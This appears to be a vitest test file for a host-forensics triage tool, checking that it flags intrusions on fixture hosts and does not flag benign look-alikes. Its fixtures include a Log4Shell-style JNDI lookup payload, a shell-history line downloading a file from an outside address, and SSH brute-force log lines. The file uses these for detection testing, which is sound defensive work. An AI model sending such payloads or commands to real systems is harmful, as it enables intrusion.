/** Nine hosts written, with their answers, before the sheet was run on them: six broken into, three whose administrators do odd things. */
import { describe, expect, it } from 'vitest';
import { alpineNode } from './fourth-hosts/alpine-node.ts';
import { cleanBastion, cleanJava, cleanWindows } from './fourth-hosts/clean-hosts.ts';
import { debianFlask } from './fourth-hosts/debian-flask.ts';
import { debianShop } from './fourth-hosts/debian-shop.ts';
import { cleanGit, cleanShop, wiki, windowsTerminal, wordpress } from './fourth-hosts/later-hosts.ts';
import { rhelTomcat } from './fourth-hosts/rhel-tomcat.ts';
import { susePerl } from './fourth-hosts/suse-perl.ts';
import { windowsIis } from './fourth-hosts/windows-iis.ts';
import { sheetOf } from './sheet-of.ts';

const HOSTS = [
  debianShop,
  rhelTomcat,
  alpineNode,
  susePerl,
  windowsIis,
  debianFlask,
  cleanBastion,
  cleanJava,
  cleanWindows,
];

/** Written after the sheet had been mended on the nine. */
const LATER = [wordpress, windowsTerminal, wiki, cleanGit, cleanShop];

/** A parameter with `../..` that every visitor of a site sends: path traversal is never taken for a site's own doing. */
const NOT_ANSWERED: { [name: string]: string[] } = { [cleanShop.name]: ['no attacker'] };

describe.each([...HOSTS, ...LATER])('$name', ({ name, files, questions }) => {
  it('is answered', async () => {
    const sheet = await sheetOf(files, 'shipped');
    const missing = questions.filter(({ answered }) => !answered(sheet)).map(({ ask }) => ask);
    expect(missing).toEqual(NOT_ANSWERED[name] ?? []);
  });
});

describe('what only looks alike', () => {
  const auth = (lines: string[]): string => lines.map((line) => `Nov 20 09:${line}\n`).join('');

  it('is no guessing where people share an address, and is where names are tried that do not exist', async () => {
    const people = ['anna', 'bernd', 'chen'].flatMap((user, i) => [
      `0${i}:01 jump sshd[1]: Failed password for ${user} from 192.0.2.20 port 4${i} ssh2`,
      `0${i}:05 jump sshd[1]: Failed password for ${user} from 192.0.2.20 port 4${i} ssh2`,
      `0${i}:20 jump sshd[1]: Accepted password for ${user} from 192.0.2.20 port 4${i} ssh2`,
    ]);
    const shared = await sheetOf({ 'var/log/auth.log': auth(people) });
    expect(shared.bruteForce).toMatchObject([{ address: '192.0.2.20', tries: 6, people: 3 }]);
    expect(shared.entry).toBeUndefined();
    expect(shared.attackers).toEqual([]);
    const tried = await sheetOf({
      'var/log/auth.log': auth([
        '00:00 jump sshd[1]: Failed password for invalid user oracle from 192.0.2.20 port 4 ssh2',
        ...people,
      ]),
    });
    expect(tried.entry?.how).toContain('192.0.2.20');
  });

  it('is a lookup that somebody asked for, and a host that a page links to', async () => {
    const asked = 'GET /?x=$'.concat('{jndi:ldap://198.18.1.1/a}');
    const sheet = await sheetOf({
      'app.log': `2026-11-20 00:20:05,001 INFO [http-1] shop.Access - ${asked} 404\n2026-11-20 00:21:05,001 INFO [http-1] shop.Orders - order 17 paid\n`,
      'access.log': `198.51.100.7 - - [20/Nov/2026:00:22:00 +0000] "GET /out?to=http://198.18.44.2/partner HTTP/1.1" 302 0 "-" "Mozilla/5.0"\n`,
      'root/.bash_history': 'curl -o /opt/x http://198.18.44.2/x\n',
    });
    expect(sheet.entry).toBeUndefined();
  });

  it('are processes from /usr and below a home, Winlogon as it is everywhere, and modules of the kernel', async () => {
    const sheet = await sheetOf({
      'ps.txt':
        'USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\nroot 1 0.0 0.1 1 1 ? Ss 08:00 0:01 /sbin/init\nroot 9 0.0 0.1 1 1 ? S 08:00 0:01 [kworker/0:1]\nops 20 0.0 0.1 1 1 ? S 08:00 0:01 /home/ops/.nvm/versions/node/v20/bin/node app.js\nops 22 0.0 0.1 1 1 ? S 08:00 0:01 /srv/app/.venv/bin/python app.py\nops 21 0.0 0.1 1 1 ? S 08:00 0:01 /tmp/.mount_toolX1/tool\n',
      'winlogon.reg':
        'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon]\r\n"Shell"="explorer.exe"\r\n"Userinit"="C:\\\\Windows\\\\system32\\\\userinit.exe,"\r\n"LegalNoticeText"="Welcome"\r\n',
      'etc/modules-load.d/kvm.conf': 'kvm_intel\nbr_netfilter\n',
      'etc/init.d/app':
        '#!/bin/sh\ncase "$1" in start) start-stop-daemon --start --exec /opt/app/bin/app && echo up ;; esac\n',
    });
    expect(sheet.persistence).toEqual([]);
  });

  it('is in listings, hooks, profiles and histories of every host', async () => {
    const sheet = await sheetOf({
      'suid.txt':
        '-rwsr-xr-x 1 root root 63960 Feb  7  2026 /usr/bin/passwd\n4755 root root /usr/lib/openssh/ssh-keysign\n',
      'srv/app/.git/hooks/pre-commit': '#!/bin/sh\n. "$(dirname "$0")/.husky/_/husky.sh"\nnpx lint-staged\n',
      'etc/profile.d/java.sh':
        'export JAVA_HOME=/usr/lib/jvm/default\nexport PATH=$JAVA_HOME/bin:$PATH\n[ -f ~/.bash_aliases ] && . ~/.bash_aliases\n',
      'etc/update-motd.d/50-landscape': '#!/bin/sh\n/usr/bin/landscape-sysinfo > /var/tmp/.sysinfo\n',
      'root/.zsh_history': ': 1794713000:0;chmod 4755 /usr/bin/fping\n: 1794713060:0;wget http://10.0.0.5/repo.key\n',
      'etc/apt/apt.conf.d/05etckeeper':
        'DPkg::Pre-Invoke { "if [ -x /usr/bin/etckeeper ]; then etckeeper pre-install; fi"; };\n',
      'root/.mysql_history': "insert\\040into\\040orders(id,name)\\040values(1,'shoe');\n",
    });
    expect(sheet.persistence).toEqual([]);
    expect(sheet.accounts).toEqual([]);
  });
});
